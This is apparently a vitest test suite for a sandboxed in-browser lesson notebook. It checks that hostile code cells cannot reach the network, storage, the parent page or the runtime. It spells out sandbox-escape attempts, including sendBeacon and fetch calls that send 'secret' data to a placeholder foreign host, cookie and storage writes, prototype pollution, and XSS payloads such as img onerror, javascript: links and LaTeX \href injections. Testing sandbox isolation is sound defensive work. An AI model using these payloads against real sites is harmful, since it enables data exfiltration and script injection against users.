/** Cells that try to get out, one row each: what it tries, and how we see that it failed. */
import { describe, expect, test } from "vitest";
import { requirePart } from "../realParts.js";
import { edit, ended, expectUntouched, lessonSite, press, rewrite } from "./lessonSite.js";

const isThere = requirePart("chromium", "what hostile cells can reach");
const lab = lessonSite(isThere);

/**
 * Each prints REACHED if it gets what it wants. `@` is a foreign server, `~` the site itself; both write down every request. After each
 * the page, its storage and its address must be what they were.
 */
const hostile: readonly (readonly [name: string, code: string])[] = [
  // The network.
  ["fetch", 'await fetch("@/fetch"); console.log("REACHED");'],
  ["fetch of the site", 'await fetch("~/fetch"); console.log("REACHED");'],
  ["fetch without reading", 'await fetch("@/blind", { mode: "no-cors", keepalive: true }); console.log("REACHED");'],
  ["XMLHttpRequest", 'const x = new XMLHttpRequest(); x.open("GET", "@/xhr", false); x.send(); console.log("REACHED");'],
  [
    "WebSocket",
    'const w = new WebSocket("ws" + "@/socket".slice(4)); await new Promise((r, j) => { w.onopen = r; w.onerror = j; }); console.log("REACHED");',
  ],
  [
    "EventSource",
    'const e = new EventSource("@/events"); await new Promise((r, j) => { e.onopen = r; e.onerror = j; }); console.log("REACHED");',
  ],
  ["WebTransport", 'const t = new WebTransport("https" + "@/".slice(4)); await t.ready; console.log("REACHED");'],
  [
    "RTCPeerConnection",
    'new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1" }] }).createDataChannel("x"); console.log("REACHED");',
  ],
  ["importScripts", 'importScripts("@/script.js"); console.log("REACHED");'],
  ["importScripts of the site", 'importScripts("~/sandbox/frame.html?secret"); console.log("REACHED");'],
  ["import() in an eval", 'await (0, eval)(\'import("@/module.js")\'); console.log("REACHED");'],
  ["import() in a Function", 'await new Function(\'return import("@/module.js")\')(); console.log("REACHED");'],
  ["import() of data", 'await (0, eval)(\'import("data:text/javascript,export default 1")\'); console.log("REACHED");'],
  ["sendBeacon", 'navigator.sendBeacon("@/beacon", "secret"); console.log("REACHED");'],
  ["a font", 'const f = new FontFace("x", "url(@/font)"); await f.load(); console.log("REACHED");'],
  ["an image", 'new Image().src = "@/image"; console.log("REACHED");'],
  ["a link that is looked up", 'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "@/"; console.log("REACHED");'],
  [
    "a report to elsewhere",
    'new ReportingObserver(() => {}).observe(); await fetch("@/report", { method: "POST" }); console.log("REACHED");',
  ],
  // What the browser keeps.
  ["localStorage", 'localStorage.setItem("stolen", "1"); console.log("REACHED");'],
  ["cookies", 'document.cookie = "stolen=1"; console.log("REACHED");'],
  ["the cookie store", 'await cookieStore.set("stolen", "1"); console.log("REACHED");'],
  ["indexedDB", 'await new Promise((r, j) => { const q = indexedDB.open("x"); q.onsuccess = r; q.onerror = j; }); console.log("REACHED");'],
  ["the cache", 'await caches.open("x"); console.log("REACHED");'],
  ["the file system", 'await navigator.storage.getDirectory(); console.log("REACHED");'],
  ["a lock of the site", 'await navigator.locks.request("x", () => console.log("REACHED"));'],
  // The page above, and windows.
  ["the page above", 'parent.document.title = "stolen"; console.log("REACHED");'],
  ["the page above, through self", 'self.top.location = "@/top"; console.log("REACHED");'],
  ["the opener", 'self.opener.document.title = "stolen"; console.log("REACHED");'],
  ["a window", 'open("@/window"); console.log("REACHED");'],
  ["navigation", 'location.href = "@/location"; if (location.href.startsWith("@")) console.log("REACHED");'],
  ["clients of a service worker", 'for (const c of await clients.matchAll()) c.postMessage("REACHED"); console.log("REACHED");'],
  ["a service worker", 'await navigator.serviceWorker.register("~/sw.js"); console.log("REACHED");'],
  ["the clipboard", 'await navigator.clipboard.writeText("REACHED"); console.log("REACHED");'],
  ["a notification", 'new Notification("REACHED"); console.log("REACHED");'],
  // Other Workers and channels.
  ["a Worker of its own", 'new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); console.log("REACHED");'],
  [
    "a Worker through the constructor of another",
    'const W = Object.getPrototypeOf(self).constructor; new W("~/x.js"); console.log("REACHED");',
  ],
  ["a shared Worker", 'new SharedWorker(URL.createObjectURL(new Blob([""]))); console.log("REACHED");'],
  ["a channel to the page", 'new BroadcastChannel("lrlab").postMessage("x"); console.log("REACHED");'],
  // Our own runtime.
  ["forged messages", 'for (const nonce of [0, 1, "0", ""]) postMessage({ nonce, type: "text", text: "REACHED" });'],
  [
    "forged messages, through the prototype",
    'DedicatedWorkerGlobalScope.prototype.postMessage.call(self, { type: "text", text: "REACHED" });',
  ],
  [
    "forged messages, through an event",
    'self.dispatchEvent(new MessageEvent("message", { data: { job: { parts: [\'console.log("REACHED")\'] } } }));',
  ],
  ["another job, by the page's own way in", "onmessage({ data: { parts: ['{ console.log(\"REACHED\");'] } });"],
  ["a cell that does not exist", "__lr.cell(5e5);"],
  ["the names of later cells", "__lr.import = () => { throw 1; }; __lr.threw = null;"],
  ["polluted prototypes", 'Object.prototype.polluted = 1; Array.prototype.map = () => ["REACHED"]; ({}).polluted;'],
  [
    "a port of the page",
    'for (const key of Object.getOwnPropertyNames(self)) if (self[key] instanceof MessagePort) console.log("REACHED");',
  ],
  ["the constructor of everything", 'const f = [].constructor.constructor("return parent"); if (f().document) console.log("REACHED");'],
  [
    "the stack of an error",
    'Error.prepareStackTrace = (_, sites) => { const t = sites[0].getThis(); if (t?.document) console.log("REACHED"); return "x"; }; new Error("a").stack;',
  ],
  ["the end of its run", '__lr.value = () => {}; close(); console.log("REACHED");'],
  ["the clock of the page", "for (let i = 0; i < 1e4; i++) setTimeout(() => {}, 0);"],
];

describe.skipIf(!isThere)("hostile cells", () => {
  test(`${hostile.length} of them reach nothing`, async () => {
    expect(hostile.length).toBeGreaterThanOrEqual(25);
    const { page } = await lab.visit();
    const cell = page.locator("lr-cell#setup");
    await edit(page, cell);
    for (const [name, code] of hostile) {
      await rewrite(page, cell, code.replaceAll("@", lab.abroad).replaceAll("~", lab.here));
      await press(cell, "run", ended);
      const outputs = cell.locator("[data-outputs]");
      const text = (await outputs.count()) === 0 ? "" : await outputs.innerText();
      // What fails is told with the code's own words, in a line of its own that begins with the error.
      expect(text.replaceAll(/^(line \d+: )?\w*Error.*$/gm, ""), name).not.toContain("REACHED");
    }
    await expectUntouched(lab, page, "after all of them");
    // The next honest run finds everything as it was.
    await press(cell, "reset", /course's code/);
    expect(await press(cell, "run", ended)).toMatch(/^Ran in/);
  });

  test("that send figures with traps in them draw nothing", async () => {
    const figures = [
      '{ kind: "curves", __proto__: { polluted: 1 } }',
      '{ kind: "html", data: "<img src=x onerror=document.title=1>" }',
      'JSON.parse(\'{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}\')',
      '{ toJSON: () => ({ kind: "curves", sentence: "x", size: { width: 1e9, height: 1 }, data: {} }) }',
      '{ kind: "curves", sentence: "x", size: { width: NaN, height: NaN }, data: {} }',
      '{ kind: "table", columns: [{ label: "a", align: "left" }], rows: Array.from({ length: 3000 }, () => ["x"]), sentence: "x" }',
      '{ kind: "table", columns: Array.from({ length: 1000 }, () => ({ label: "a", align: "left" })), rows: [], sentence: "x" }',
      '{ kind: "bar", label: "x", done: "<b>", total: Infinity, sentence: "x" }',
      '{ kind: "frames", control: { label: "x", ordered: true }, frames: [], start: 0, sentence: "x" }',
      "{ toJSON: () => undefined }",
    ];
    // Past `show`, which checks what it is given: straight to the page.
    const { page, text } = await lab.shown(
      `const host = (globalThis as any)[Symbol.for("lrlab.host")];\nfor (const figure of [${figures}]) host.display([figure]);`,
    );
    expect(text.match(/This is nothing that the page can draw/g)).toHaveLength(figures.length);
    expect(await page.locator("lr-cell#setup figure").count()).toBe(0);
    await expectUntouched(lab, page, "figures");
  });

  test("whose formulas carry links, classes or styles show none of them", async () => {
    const latex = [
      "\\\\href{javascript:document.title=1}{x}",
      "\\\\htmlClass{skip}{x}",
      "\\\\htmlStyle{position:fixed}{x}",
      "\\\\includegraphics{@/image}",
      "\\\\url{@/url}",
      "<img src=@/tag onerror=alert(1)>",
    ];
    const code = `const host = (globalThis as any)[Symbol.for("lrlab.host")];\nfor (const latex of ${JSON.stringify(latex).replaceAll("\\\\\\\\", "\\\\")})\n  host.display([{ kind: "formula", latex, sentence: "x" }]);`;
    const { page } = await lab.shown(code.replaceAll("@", lab.abroad));
    const place = page.locator("lr-cell#setup [data-outputs]");
    expect(await place.locator(".display").count()).toBe(latex.length);
    expect(await place.locator("a, img, .skip, [href], [style]").count()).toBe(0);
    await expectUntouched(lab, page, "formulas");
  });

  test("that print markup, control characters or turned text print text", async () => {
    const { page, text } = await lab.shown(
      [
        'console.log("<img src=x onerror=document.title=1><b>bold</b>");',
        'console.log("[link](javascript:document.title=1) javascript:document.title=1");',
        'console.log("\\u202Etxet denrut\\u202C \\u0000\\u0007\\u001b[31mred");',
        'throw new Error("<script>document.title=1</script>");',
      ].join("\n"),
    );
    expect(text).toContain("<b>bold</b>");
    expect(text).toContain("<script>");
    const outputs = page.locator("lr-cell#setup [data-outputs]");
    expect(await outputs.locator("a, img, script, b").count()).toBe(0);
    // Text that turns its direction keeps to its own lines.
    expect(
      await outputs
        .locator(".output")
        .first()
        .evaluate((place) => getComputedStyle(place).unicodeBidi),
    ).toMatch(/isolate|plaintext/);
    await expectUntouched(lab, page, "markup");
  });

  test.each([
    ["a text of a gigabyte", '"x".repeat(2 ** 29 - 30) + "y"'],
    ["an object without end", "const deep: any = {}; let at = deep; for (let i = 0; i < 1e5; i++) at = at.next = {};\ndeep"],
    ["a list of ten million", "Array.from({ length: 1e7 }, (_, i) => i)"],
    ["a getter that throws", "({ get a() { throw new Error('no'); } })"],
    ["a proxy that throws", "new Proxy({}, { ownKeys() { throw new Error('trap'); } })"],
    [
      "a hundred thousand errors",
      "for (let i = 0; i < 1e5; i++) setTimeout(() => { throw new Error('x'); });\nawait new Promise((r) => setTimeout(r, 500));",
    ],
  ])("that show %s leave the page well", async (name, code) => {
    const { page, text } = await lab.shown(code);
    expect(text.length).toBeLessThan(200_000);
    await expectUntouched(lab, page, name);
  });
});
